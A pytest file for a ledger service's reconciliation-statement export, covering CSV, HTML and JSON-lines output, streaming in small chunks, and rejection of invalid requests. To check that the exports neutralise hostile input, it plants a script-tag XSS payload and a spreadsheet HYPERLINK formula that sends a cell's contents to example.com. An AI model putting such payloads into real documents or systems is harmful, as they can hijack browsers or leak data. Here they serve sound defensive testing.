"""Reconciliations as files: whole, in bounded chunks, and harmless whatever a bank wrote."""

import csv
import io
import json
import uuid
from typing import Any

import asyncpg
import lxml.html
import pytest
from ledgerapi.v1 import reconciliation_service_pb2 as pb

from ledgerd.access.caller import ANONYMOUS
from ledgerd.core.model import ids
from ledgerd.core.model.reconciliation_statement import TimeBasis
from ledgerd.core.model.rejection import Reason, Rejected
from ledgerd.operations import statement_exports
from ledgerd.operations.reconciliation_statements import StatementRequest
from ledgerd.operations.statement_exports import CHUNK_BYTES, Content, ExportRequest, FileFormat
from tests.conftest import Server
from tests.rpc import records, wire
from tests.rpc.statement_books import StatementBank, before, today

CSV = pb.RECONCILIATION_EXPORT_FORMAT_CSV
HTML, LINES = pb.RECONCILIATION_EXPORT_FORMAT_HTML, pb.RECONCILIATION_EXPORT_FORMAT_JSON_LINES
MATCHES, UNMATCHED = pb.RECONCILIATION_EXPORT_CONTENT_MATCHES, pb.RECONCILIATION_EXPORT_CONTENT_UNMATCHED_ROWS
SCRIPT = "<script>document.title='hacked'</script>"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"paid")'


async def exported(bank: StatementBank, **request: Any) -> tuple[pb.ExportReconciliationStatementStarted, bytes]:
    """A file: of what is drawn up now, unless the request names a statement."""
    if "reconciliation_statement_id" not in request:
        request = {"scope": bank.scope(), **request}
    wanted = pb.ExportReconciliationStatementRequest(**{"format": CSV, **request})
    call = bank.server.reconciliations.ExportReconciliationStatement(wanted)
    responses = [response async for response in call]
    assert [response.WhichOneof("part") for response in responses] == ["started", *["data"] * (len(responses) - 1)]
    chunks = [response.data for response in responses[1:]]
    assert all(0 < len(chunk) <= CHUNK_BYTES for chunk in chunks)
    return responses[0].started, b"".join(chunks)


def table(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))


async def test_hostile_text_is_text_in_every_kind_of_file(server: Server, connection: asyncpg.Connection) -> None:
    bank = await StatementBank.open(server, connection, time_zone="UTC", name=f"Bank {SCRIPT}")
    texts: dict[str, Any] = {"counterparty": SCRIPT, "description": FORMULA, "references": [SCRIPT]}
    await bank.tell(records.record("a", "1.00", booking_date=before(0), **texts))
    await bank.close_day(opening=0, closing=100)
    kept = await bank.state()
    named = {"reconciliation_statement_id": kept.id}

    page, content = await exported(bank, format=HTML, **named)
    assert (page.file_name, page.content_type) == (
        f"statement-{kept.id}-USD-{kept.date}.html", "text/html; charset=utf-8",
    )  # fmt: skip
    parsed = lxml.html.document_fromstring(content.decode())
    assert not list(parsed.iter("script"))
    assert FORMULA in parsed.text_content() and SCRIPT in parsed.text_content()
    assert "The two balances are explained to the last unit." in parsed.text_content()

    _, content = await exported(bank, **named)
    (row,) = [row for row in table(content) if row["section"] == "ONLY_IN_BANK"]
    assert (row["description"], row["counterparty"], row["amount"]) == (f"'{FORMULA}", SCRIPT, "1.00")

    lines, content = await exported(bank, format=LINES, **named)
    found = [json.loads(line) for line in content.splitlines()]
    (row,) = [row for row in found if row["section"] == "ONLY_IN_BANK"]
    assert (row["description"], row["counterparty"], row["amount"]) == (FORMULA, SCRIPT, "1.00")
    assert (lines.content_type, content.isascii()) == ("application/jsonl", True)
    # What is drawn up now is the same.
    assert (await exported(bank, format=LINES))[1] == content


async def test_matches_and_rows_in_none_are_exported_with_rule_decision_and_outcome(
    server: Server, connection: asyncpg.Connection
) -> None:
    bank = await StatementBank.open(server, connection, time_zone="UTC")
    await bank.post("paid", "10.00")
    record, lost = await bank.tell(
        records.record("a", "10.00", booking_date=before(0), references=["paid"]),
        records.record("b", "-2.00", booking_date=before(1)),
    )
    run = await bank.run()
    decision = (await bank.confirm(run)).reconciliation_decision.id
    ignored = (await bank.ignore([lost])).reconciliation_decision.id
    _, content = await exported(bank, content=MATCHES)
    assert [
        (row["match_id"], row["rule"], row["amount"], row["reconciliation_decision_id"]) for row in table(content)
    ] == [(f"{run}/1", "r", "10.00", decision)] * 2
    assert record in content.decode()
    started, content = await exported(bank, content=UNMATCHED)
    assert started.file_name == f"unmatched-rows-{bank.source.id}-USD-{bank.scope().date}.csv"
    (row,) = table(content)
    assert (row["outcome"], row["reason"], row["row_id"], row["reconciliation_decision_id"]) == (
        "IGNORED", "A test payment.", lost, ignored,
    )  # fmt: skip


async def many(bank: StatementBank, count: int) -> None:
    """So many records, written as they are kept."""
    await bank.tell(records.record("first", "1.00", booking_date=before(0)))
    await bank.connection.execute(
        "INSERT INTO external_records (source_id, upload_id, ordinal, key, digest, amount, currency, precision,"
        " booking_date, reference_texts, kind, payments, line, created_at)"
        " SELECT source_id, upload_id, n, 'k' || n, '', n, 'USD', 100, booking_date, '{}', 'MOVEMENT', 1, 1, now()"
        " FROM external_records, generate_series(1, $1::integer) AS n",
        count,
    )


async def test_an_export_of_many_rows_is_a_stream_of_small_chunks(
    server: Server, connection: asyncpg.Connection
) -> None:
    bank = await StatementBank.open(server, connection, time_zone="UTC")
    await many(bank, 8_000)
    _, content = await exported(bank, content=UNMATCHED, format=LINES)
    amounts = [json.loads(line)["amount"] for line in content.splitlines()]
    assert (len(amounts), amounts[-1], len(content) > 15 * CHUNK_BYTES) == (8_001, "80.00", True)


async def test_a_client_that_takes_nothing_holds_no_snapshot(
    server: Server, connection: asyncpg.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    bank = await StatementBank.open(server, connection, time_zone="UTC")
    await many(bank, 8_000)
    monkeypatch.setattr(statement_exports, "PATIENCE_SECONDS", 1)
    monkeypatch.setattr(statement_exports, "AHEAD_CHUNKS", 2)
    source_id = ids.decode(ids.EXTERNAL_SOURCE, bank.source.id)
    assert server.app._engine is not None and source_id is not None
    about = StatementRequest(source_id=uuid.UUID(int=source_id), currency="USD", day=today(), basis=TimeBasis.RECORD)
    wanted = ExportRequest(about=about, content=Content.UNMATCHED_ROWS, written_as=FileFormat.CSV)
    file = await statement_exports.export(server.app._engine, ANONYMOUS, wanted)
    await anext(file.chunks)
    others = "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()"
    while await connection.fetchval(f"{others} AND xact_start IS NOT NULL"):
        pass
    with pytest.raises(Rejected) as caught:
        await _rest(file.chunks)
    assert caught.value.rejection.reason is Reason.READ_TOO_COSTLY


async def _rest(call: Any) -> None:
    async for _ in call:
        pass


@pytest.mark.parametrize(
    ("request_fields", "field"),
    [
        ({"content": MATCHES, "format": HTML}, "format"),
        ({"content": UNMATCHED, "reconciliation_statement_id": f"rcs_{'0' * 26}"}, "content"),
        ({"scope": None}, "scope"),
        ({"format": None}, "format"),
    ],
)
async def test_what_there_is_no_file_of_is_told(
    server: Server, connection: asyncpg.Connection, request_fields: dict[str, Any], field: str
) -> None:
    fields = dict(request_fields)
    if "reconciliation_statement_id" not in fields:
        scope = {"external_source_id": f"src_{'0' * 26}", "currency": "USD", "date": "2026-03-31"}
        fields = {"scope": scope, **fields}
    fields = {"format": CSV, **fields}
    call = server.reconciliations.ExportReconciliationStatement(pb.ExportReconciliationStatementRequest(**fields))
    assert (await wire.rejection(_rest(call))).fields == (field,)
